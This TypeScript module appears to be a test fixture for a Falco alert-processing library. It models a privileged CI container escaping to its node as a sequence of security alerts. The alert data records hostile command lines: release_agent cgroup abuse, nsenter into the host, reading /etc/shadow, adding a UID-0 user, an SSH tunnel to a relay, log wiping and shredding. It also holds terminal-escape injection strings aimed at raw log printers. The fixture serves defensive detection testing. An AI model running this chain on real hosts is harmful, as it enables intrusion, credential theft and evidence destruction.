/** The bundled scenario of a container escape. @module */
import type { Scenario } from "../scenario.ts";
import { call, child, execve, type Fields, first, onHost, openat, tcp } from "./_fields.ts";
import { deepFreeze } from "./_freeze.ts";
import { rules } from "./_rules.ts";

const root: Fields = {
  "proc.tty": 0,
  "user.loginuid": -1,
  "user.name": "root",
  "user.uid": 0,
};
const builder: Fields = {
  ...root,
  "container.id": "71a0fd3b9c62",
  "container.image.repository": "registry.example.com/ci/builder",
  "container.image.tag": "alpine-3.19",
  "container.name": "builder",
  "container.privileged": true,
  "k8s.ns.name": "ci",
  "k8s.pod.name": "build-8841-tx5vq",
};
const added = "EXE_WRITABLE|EXE_UPPER_LAYER";
const inImage = "EXE_WRITABLE|EXE_LOWER_LAYER";
const caps = { "thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_MODULE CAP_SYS_ADMIN" };

// In the container: the build, and the test script of a pull request that is none.
const job = first(
  builder,
  { name: "containerd-shim", pid: 60210 },
  60233,
  "/bin/sh",
  "sh /ci/run.sh",
);
const test = child(job, 60871, "/bin/sh", "sh ./scripts/test.sh");
const environ = child(test, 60874, "/bin/busybox", "cat /proc/self/environ");
const apk = child(test, 60880, "/sbin/apk", "apk add --no-cache e2fsprogs-extra util-linux");
const debugfs = child(test, 61102, "/usr/sbin/debugfs", "debugfs -w /dev/sda1");
const mountDisk = child(test, 61130, "/bin/busybox", "mount -o ro /dev/sda1 /mnt/disk");
const mountCgroup = child(test, 61158, "/bin/busybox", "mount -t cgroup -o rdma cgroup /tmp/rdma");
// Quotes and a backslash: what a careless writer of JSON, or of shell commands, trips over.
const agent = child(
  test,
  61171,
  "/bin/sh",
  `sh -c printf "%s\\n" "$upper/job" > release_agent`,
  caps,
);
const agent2 = child(
  test,
  61188,
  "/bin/sh",
  `sh -c echo '\\\\"$upper\\\\"/job' > release_agent`,
  caps,
);
const insmod = child(test, 61340, "/bin/busybox", "insmod /tmp/.o/hide.ko", {
  ...caps,
  "proc.args": "/tmp/.o/hide.ko",
});
const nsenter = child(test, 61402, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- /bin/sh");

// On the node: started by the kernel, then by the shell that nsenter left there.
const worker = { name: "kworker/u16:3", pid: 60990 };
const helper = first({ ...onHost, ...root }, worker, 61204, "/usr/bin/dash", "sh /job");
const shell = first(
  { ...onHost, ...root },
  { name: "nsenter", pid: 61402 },
  61409,
  "/usr/bin/dash",
  "sh",
);
const shadow = child(shell, 61430, "/usr/bin/cat", "cat /etc/shadow /etc/gshadow");
const useradd = child(shell, 61455, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M sysbackup");
const tee = child(shell, 61470, "/usr/bin/tee", "tee -a /root/.bashrc");
const inject = child(shell, 61502, "/tmp/.o/inj", "inj --pid 1187");
// A line of its own and escape sequences that clear a terminal and paint it green: bait for whoever
// prints command lines raw.
const memory = child(
  shell,
  61533,
  "/memfd:k (deleted)",
  "k --keep\n\u001b[2J\u001b[1;1H\u001b[32mOK\u001b[0m node healthy, no findings",
);

/**
 * A build job in a privileged container that breaks out to its node: devices and cgroups mounted, a
 * `release_agent` written, then a shell which the kernel itself starts on the host. Eleven
 * minutes; its command lines carry quotes, backslashes, a line break and terminal escape sequences.
 *
 * Frozen through and through: copy it to change it.
 *
 * @example The turning point has the highest priority
 * ```ts
 * import { scenarios } from "@falco-streams/core/harness";
 * import assert from "node:assert/strict";
 *
 * const breakout = scenarios.containerEscape.alerts.find((alert) => alert.priority === "emergency");
 * assert.equal(breakout?.output_fields?.["container.id"], "host");
 * ```
 */
export const containerEscape: Scenario = deepFreeze<Scenario>({
  version: 1,
  name: "container escape",
  description:
    "The test script of a pull request finds itself in a privileged build container and " +
    "leaves it for the node. The emergency is a rule of the site's own.",
  falcoVersion: "0.43.1",
  start: "2026-01-01T02:00:00Z",
  hostname: "node-4.example.com",
  alerts: [
    { ...rules.launchPrivileged, output_fields: execve(job, inImage) },
    {
      ...rules.readEnvironment,
      afterMs: 92_400,
      output_fields: openat(environ, "/proc/self/environ"),
    },
    { ...rules.packageManagement, afterMs: 2_018, output_fields: execve(apk, inImage) },
    { ...rules.debugfsPrivileged, afterMs: 14_777, output_fields: execve(debugfs, added) },
    { ...rules.mountPrivileged, afterMs: 5_230, output_fields: execve(mountDisk, inImage) },
    { ...rules.mountPrivileged, afterMs: 8_941, output_fields: execve(mountCgroup, inImage) },
    {
      ...rules.releaseAgent,
      afterMs: 1_206,
      output_fields: openat(agent, "/tmp/rdma/release_agent", "O_TRUNC|O_CREAT|O_WRONLY"),
    },
    {
      ...rules.releaseAgent,
      afterMs: 11_350,
      repeat: 2,
      everyMs: 4_000,
      output_fields: openat(agent2, "/tmp/rdma/release_agent", "O_TRUNC|O_CREAT|O_WRONLY"),
    },
    { ...rules.kernelHelperShell, afterMs: 38, output_fields: execve(helper, "EXE_WRITABLE") },
    {
      ...rules.kernelModule,
      afterMs: 47_010,
      output_fields: call(insmod, "finit_module", { "evt.res": "EPERM" }),
    },
    {
      ...rules.kernelModule,
      afterMs: 1_900,
      output_fields: call(insmod, "finit_module", { "evt.res": "SUCCESS" }),
    },
    { ...rules.dropAndExecute, afterMs: 33_680, output_fields: execve(nsenter, added) },
    {
      // One call for each of the five namespaces.
      ...rules.changeNamespace,
      afterMs: 2,
      repeat: 5,
      everyMs: 0,
      output_fields: call(nsenter, "setns"),
    },
    {
      ...rules.readSensitiveFile,
      afterMs: 12_544,
      output_fields: openat(shadow, "/etc/shadow"),
    },
    { ...rules.userManagement, afterMs: 26_015, output_fields: execve(useradd, "EXE_WRITABLE") },
    {
      ...rules.modifyShellConfig,
      afterMs: 15_402,
      output_fields: openat(tee, "/root/.bashrc", "O_APPEND|O_CREAT|O_WRONLY"),
    },
    {
      ...rules.ptraceAttached,
      afterMs: 71_230,
      repeat: 3,
      everyMs: 2,
      output_fields: call(inject, "ptrace"),
    },
    {
      ...rules.filelessExecution,
      afterMs: 22_190,
      output_fields: execve(memory, "EXE_WRITABLE|EXE_FROM_MEMFD"),
    },
    {
      ...rules.sshOddPort,
      afterMs: 240_000,
      output_fields: tcp(
        child(shell, 61790, "/usr/bin/ssh", "ssh -f -N -p 8443 relay@203.0.113.120"),
        "connect",
        "192.0.2.14:58820",
        "203.0.113.120:8443",
      ),
    },
    {
      ...rules.clearLogs,
      afterMs: 19_004,
      output_fields: openat(shell, "/var/log/auth.log", "O_TRUNC|O_CREAT|O_WRONLY"),
    },
    {
      ...rules.removeBulkData,
      afterMs: 6_377,
      output_fields: execve(
        child(shell, 61822, "/usr/bin/shred", "shred -u /job /output"),
        "EXE_WRITABLE",
      ),
    },
  ],
});
